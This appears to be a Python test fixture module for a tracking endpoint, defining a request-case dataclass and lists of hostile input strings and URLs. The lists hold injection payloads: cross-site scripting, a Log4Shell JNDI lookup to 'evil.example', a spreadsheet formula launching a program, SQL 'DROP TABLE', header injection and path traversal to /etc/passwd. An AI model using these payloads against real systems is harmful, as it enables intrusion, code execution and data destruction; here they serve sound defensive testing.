"""One hostile request and the texts that hostile requests are made of."""

from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

BODY_LIMIT = 65536


@dataclass(frozen=True)
class Case:
    """`body`: bytes and texts as they are, everything else as JSON. `stored` are the rows that come of it.

    `drop` is the reason under which what was left out must be counted.
    """

    name: str
    status: int
    body: Any = None
    stored: int = 0
    method: str = "POST"
    path: str = "/track"
    headers: Mapping[str, str] = field(default_factory=dict)
    drop: str | None = None


HOSTILE_TEXTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</title><svg onload=alert(1)>",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    "=cmd|' /C calc'!A0",
    "@everyone <@1> <#2> <t:0> [x](https://evil.example)",
    "'; DROP TABLE event; --",
    '" OR ""="',
    "\u202egnirts desrever\u202c",
    "z\u0301\u0302\u0303\u0304\u0305" * 20,
    "\u200b\u200d\ufeff\u2028\u2029",
    "\x1b[31mred\x1b[0m\x07",
    "line\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "%00%0d%0a%2e%2e%2f",
    "../../../../etc/passwd",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 20,
    "__proto__",
    "\uffff\ufffe",
)
HOSTILE_PAGES = (
    "javascript:alert(1)",
    "data:text/html,<script>1</script>",
    "//evil.example/x",
    "https://user:secret@docs.example/p?token=1#fragment",
    "\\\\evil.example\\share",
    "/p?token=secret",
    "http://[::1",
)
